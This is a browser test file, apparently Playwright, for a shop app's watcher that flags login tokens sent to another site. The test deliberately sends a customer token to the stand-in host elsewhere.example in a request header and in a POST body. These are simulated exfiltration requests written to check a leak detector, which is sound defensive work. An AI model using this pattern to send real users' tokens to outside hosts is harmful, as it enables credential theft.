import { startingTokens } from '@signal-shop/mock-server';
import { inject } from 'vitest';
import { expect, test } from '../support/shop-test.ts';
import { watch } from '../support/watch.ts';

const otherOrigin = 'https://elsewhere.example';

test('[T14] every shopper is watched: a token sent to another site in a header or a body is an error', async ({
  browser,
}) => {
  const context = await browser.newContext();
  await context.route(`${otherOrigin}/**`, (route) => route.fulfill({ contentType: 'text/html', body: '' }));
  const { complaints } = await watch(context, inject('shopUrl'));
  const page = await context.newPage();
  await page.goto(otherOrigin);
  await page.evaluate(async (login) => {
    await fetch('/no-token');
    await fetch('/header', { headers: { authorization: login } });
    await fetch('/body', { method: 'POST', body: login });
  }, startingTokens.customer);
  expect(await complaints()).toEqual([
    `token sent to another site: ${otherOrigin}/header`,
    `token sent to another site: ${otherOrigin}/body`,
  ]);
  await context.close();
});
